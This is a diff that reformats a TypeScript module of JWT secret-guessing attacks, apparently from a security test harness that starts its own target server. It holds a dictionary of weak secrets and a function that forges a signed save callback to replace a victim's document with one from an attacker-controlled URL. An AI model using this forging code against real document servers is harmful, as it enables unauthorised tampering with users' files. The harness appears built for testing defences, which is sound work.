@@ -4,7 +4,18 @@ import { forgedToken } from '../helpers/jwt.js'
 import type { AlwaysStopped, Attack, Run } from './attack.js'
 import { JSON_TYPE, now, startTarget, type Target } from './target.js'
 
-const DICTIONARY = ['123456', 'password', 'onlyoffice', 'secret', 'my_jwt_secret', 'verysecretstring', 'changeme', 'Summer-2026', 'Winter-2026', ...Array.from('abcdefghijklmnopqrstuvwxyz', letter => letter.repeat(32))]
+const DICTIONARY = [
+  '123456',
+  'password',
+  'onlyoffice',
+  'secret',
+  'my_jwt_secret',
+  'verysecretstring',
+  'changeme',
+  'Summer-2026',
+  'Winter-2026',
+  ...Array.from('abcdefghijklmnopqrstuvwxyz', letter => letter.repeat(32))
+]
 const GUESSED = 'verysecretstring'
 /** As long as it must be. */
 const EQUAL_LETTERS = 'a'.repeat(32)
@@ -20,7 +31,11 @@ function secretOf (token: string): string | undefined {
 /** A save of the victim's document with whatever the secret gives. */
 async function forge ({ urlsOf, fileId, key, evilUrl }: Target, secret: string): Promise<void> {
   const claims = { key, status: 2, url: evilUrl, filetype: 'docx', iat: now(), exp: now() + 300 }
-  await fetch(urlsOf({ secrets: [secret] }).callback(fileId), { method: 'POST', headers: JSON_TYPE, body: JSON.stringify({ ...claims, token: forgedToken(claims, { secret }) }) })
+  await fetch(urlsOf({ secrets: [secret] }).callback(fileId), {
+    method: 'POST',
+    headers: JSON_TYPE,
+    body: JSON.stringify({ ...claims, token: forgedToken(claims, { secret }) })
+  })
 }
 
 function byGuess (title: string, has: string, jwtSecret: string | readonly string[], secretFor: (token: string) => string | undefined): Attack {
@@ -66,9 +81,29 @@ const log: AlwaysStopped = {
 }
 
 export const secrets: readonly Attack[] = [
-  byGuess('guesses the secret from a token, and replaces a document', 'a page with the editor and a document of their own; a dictionary', GUESSED, secretOf),
-  byGuess('guesses a short secret that the application chose', 'a page with the editor and a document of their own; a longer dictionary', SHORT, secretOf),
-  byGuess('guesses a secret of 32 identical letters', 'a page with the editor and a document of their own; a list of patterns', EQUAL_LETTERS, secretOf),
-  byGuess('signs with a known default that was left in the list of secrets', 'the documentation of the document server', ['a-strong-secret-that-signs-0123456789', GUESSED], () => GUESSED),
+  byGuess(
+    'guesses the secret from a token, and replaces a document',
+    'a page with the editor and a document of their own; a dictionary',
+    GUESSED,
+    secretOf
+  ),
+  byGuess(
+    'guesses a short secret that the application chose',
+    'a page with the editor and a document of their own; a longer dictionary',
+    SHORT,
+    secretOf
+  ),
+  byGuess(
+    'guesses a secret of 32 identical letters',
+    'a page with the editor and a document of their own; a list of patterns',
+    EQUAL_LETTERS,
+    secretOf
+  ),
+  byGuess(
+    'signs with a known default that was left in the list of secrets',
+    'the documentation of the document server',
+    ['a-strong-secret-that-signs-0123456789', GUESSED],
+    () => GUESSED
+  ),
   log
 ]
